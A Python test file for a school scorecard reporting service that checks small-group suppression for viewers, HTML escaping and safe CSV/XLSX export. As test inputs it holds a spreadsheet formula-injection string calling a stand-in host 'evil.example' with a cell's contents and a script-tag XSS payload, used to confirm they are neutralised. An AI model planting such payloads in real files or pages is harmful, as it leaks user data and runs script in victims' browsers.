"""The scoring matrix (indicators by focus groups) in the JSON, the page, the CSV and the XLSX:
a group of three is in no viewer's cell or total and in every coordinator's; community text
stays text in spreadsheets and is escaped on the page; group types read in Mongolian."""

import csv
import io
import json
import uuid
import zipfile

import pytest
from httpx import AsyncClient
from openpyxl import load_workbook

from backend.auth.models import Role
from backend.database.session import Database
from tests.support.field import Programme, Tablet, programme, school_answers
from tests.support.sync_data import submission

pytestmark = pytest.mark.asyncio
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert('scores')</script>"
RAISED_LABEL = "=1+1 Жорлон цоожтой"


def _group(kind: str, people: int, score: int, reason: str, suggestion: str | None) -> dict:
    answers = school_answers(score)
    answers["teacher_attendance"] = {"value": score, "reason": reason, "suggestion": suggestion}
    answers["toilets_locked"] = {"value": score, "reason": None}
    return {
        "group": {"type": kind, "participants": {"female": people - 1, "male": 1}},
        "answers": answers,
    }


async def _round(
    client: AsyncClient, database: Database
) -> tuple[Programme, dict[str, str], dict[str, str]]:
    """Parents 9 (score 2), parents 6 (3), teachers 3 (5); the provider 4; a raised indicator
    with a label a spreadsheet would run; published and reviewed."""
    field = await programme(database)
    await field.cycle_phase("community_scoring")
    team = await Tablet(client, await field.user(Role.FACILITATOR)).sign_in()
    provider = await Tablet(client, await field.user(Role.PROVIDER)).sign_in()
    coordinator = await Tablet(client, await field.user(Role.COORDINATOR)).sign_in()
    viewer = await Tablet(client, await field.user(Role.VIEWER)).sign_in()
    pushed = await team.push(
        team.mutation(
            "cycle_indicator",
            "create",
            uuid.uuid4(),
            {
                "cycle_id": str(field.cycle_id),
                "key": "toilets_locked",
                "label": {"mn": RAISED_LABEL, "en": "Toilets are locked"},
                "kind": "scale",
                "raised_by": ["parents"],
                "status": "selected",
            },
        ),
        *(
            team.mutation("submission", "create", uuid.uuid4(), submission(field, **group))
            for group in (
                _group("parents", 9, 2, FORMULA, "+1 teacher"),
                _group("parents", 6, 3, SCRIPT, None),
                _group("teachers", 3, 5, "-small group's own words", None),
            )
        ),
    )
    assert [r["status"] for r in pushed["results"]] == ["applied"] * 4, pushed
    await field.cycle_phase("self_assessment")
    own = submission(field, respondent="provider", group=None)
    own["answers"] = {k: v for k, v in school_answers(4).items() if k != "informal_contributions"}
    own["answers"]["textbooks_per_pupil"] = {"value": {"entitled": 12, "actual": 9}}
    result = await provider.push(provider.mutation("submission", "create", uuid.uuid4(), own))
    assert result["results"][0]["status"] == "applied", result
    for step in ("publish", "review-reasons"):
        answer = await client.post(
            f"/cycles/v1/{field.cycle_id}/{step}", headers=coordinator.headers
        )
        assert answer.status_code == 200, answer.text
    return field, coordinator.headers, viewer.headers


def _row(card: dict, key: str) -> dict:
    return next(r for r in card["matrix"]["rows"] if r["indicator"] == key)


async def test_a_group_of_three_is_in_no_viewer_cell_or_total_and_in_the_coordinators(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, coordinator, viewer = await _round(committed_client, committed_database)
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"
    inside = (await committed_client.get(url, headers=coordinator)).json()
    outside = (await committed_client.get(url, headers=viewer)).json()

    groups = inside["matrix"]["groups"]
    assert [(g["group"], g["label_mn"], g["label_en"]) for g in groups] == [
        ("parents", "Эцэг эхчүүд", "Parents"),
        ("teachers", "Багш нар", "Teachers"),
    ]
    row = _row(inside, "teacher_attendance")
    parents, teachers = row["cells"]
    assert (parents["n"], parents["participants"], parents["mean"]) == (2, 15, 2.5)
    assert (teachers["n"], teachers["participants"], teachers["mean"]) == (1, 3, 5.0)
    assert teachers["mean_100"] == 100.0
    assert [r["reason"] for r in teachers["reasons"]] == ["-small group's own words"]
    overall = row["community"]
    assert (overall["n"], overall["participants"], overall["mean"]) == (3, 18, 3.33)
    assert (row["provider_mean"], row["provider_n"], row["gap"]) == (4.0, 1, -0.67)
    assert (row["unit"], row["scale_min"], row["scale_max"]) == ("scale", 1, 5)
    raised = _row(inside, "toilets_locked")
    assert (raised["origin"], raised["raised_by"], raised["label_mn"]) == (
        "community",
        ["parents"],
        RAISED_LABEL,
    )
    assert inside["suppressed_cells"] == 0
    assert inside["scale"] == {"key": "faces_1_5", "min": 1, "max": 5}

    # the viewer: no column, no cell, no total with the three teachers in it
    assert [g["group"] for g in outside["matrix"]["groups"]] == ["parents"]
    assert outside["suppressed_cells"] == 1
    for row in outside["matrix"]["rows"]:
        assert len(row["cells"]) == 1
        if row["community"] is not None:
            assert row["community"]["participants"] <= 15
    row = _row(outside, "teacher_attendance")
    (parents,) = row["cells"]
    assert (parents["n"], parents["participants"], parents["mean"]) == (2, 15, 2.5)
    overall = row["community"]
    assert (overall["n"], overall["participants"], overall["mean"]) == (2, 15, 2.5)
    assert (overall["mean_100"], row["gap"]) == (37.5, -1.5)
    assert '"teachers"' not in json.dumps(outside["matrix"])
    assert "small group's own words" not in str(outside)

    page = (await committed_client.get(f"{url}.html?lang=en", headers=viewer)).text
    assert 'data-group="parents"' in page
    assert 'data-group="teachers"' not in page
    assert "small group" not in page
    for language, teachers in (("mn", "Багш нар"), ("en", "Teachers")):
        bundle = await committed_client.get(f"{url}.zip", params={"lang": language}, headers=viewer)
        archive = zipfile.ZipFile(io.BytesIO(bundle.content))
        text = "".join(archive.read(name).decode("utf-8-sig") for name in archive.namelist())
        assert f",{teachers}," not in text  # no row of theirs in the scores
        assert f"{teachers}:" not in text  # no block of theirs in the matrix
        assert "small group's own words" not in text
    book = load_workbook(
        io.BytesIO(
            (
                await committed_client.get(f"{url}.xlsx", params={"lang": "en"}, headers=viewer)
            ).content
        )
    )
    header = [c.value for c in next(book["Matrix"].iter_rows(max_row=1))]
    assert not [h for h in header if "Teachers" in str(h)]
    key = header.index("Indicator key")
    grid = {row[key]: row for row in book["Matrix"].iter_rows(min_row=2, values_only=True)}
    assert grid["teacher_attendance"][header.index("Community, all: mean")] == 2.5


async def test_community_text_in_the_matrix_stays_text_in_the_csv_and_the_xlsx(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, coordinator, _ = await _round(committed_client, committed_database)
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"
    answer = await committed_client.get(
        f"{url}.csv", params={"table": "matrix"}, headers=coordinator
    )
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    by_key = {row["Үзүүлэлтийн түлхүүр код"]: row for row in rows}
    attendance = by_key["teacher_attendance"]
    assert attendance["Эцэг эхчүүд: шалтгаан, санал"].startswith("'" + FORMULA)
    assert by_key["toilets_locked"]["Үзүүлэлт"] == "'" + RAISED_LABEL
    assert attendance["Багш нар: шалтгаан, санал"] == "'-small group's own words"
    assert attendance["Хэмжүүр"] == "1–5"

    book = load_workbook(
        io.BytesIO((await committed_client.get(f"{url}.xlsx", headers=coordinator)).content)
    )
    sheet = book["Бүлгээр"]
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    hostile = [c for c in cells if c.value.startswith(("=", "+", "-"))]
    assert {c.value.split("\n")[0] for c in hostile} >= {
        f"{FORMULA} — +1 teacher",
        RAISED_LABEL,
        "-small group's own words",
    }
    assert all(c.data_type == "s" for c in hostile)  # strings, never formulas


async def test_the_page_escapes_community_text_and_names_groups_in_its_language(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, coordinator, _ = await _round(committed_client, committed_database)
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard.html"
    mn = (await committed_client.get(url, headers=coordinator)).text
    en = (await committed_client.get(f"{url}?lang=en", headers=coordinator)).text
    for page in (mn, en):
        assert SCRIPT not in page
        assert "&lt;script&gt;alert(&#39;scores&#39;)&lt;/script&gt;" in page
        assert 'data-matrix-row="teacher_attendance"' in page
        assert 'data-cell="teachers"' in page
    # group types by name, in the page's language, in the matrix and beside raised indicators
    assert '<th class="num" data-group="parents">Эцэг эхчүүд</th>' in mn
    assert "Иргэд өөрсдөө дэвшүүлсэн: Эцэг эхчүүд" in mn
    assert ">parents<" not in mn
    assert '<th class="num" data-group="teachers">Teachers</th>' in en
    assert "Raised by the community: Parents" in en
    assert 'data-scale="faces_1_5"' in mn
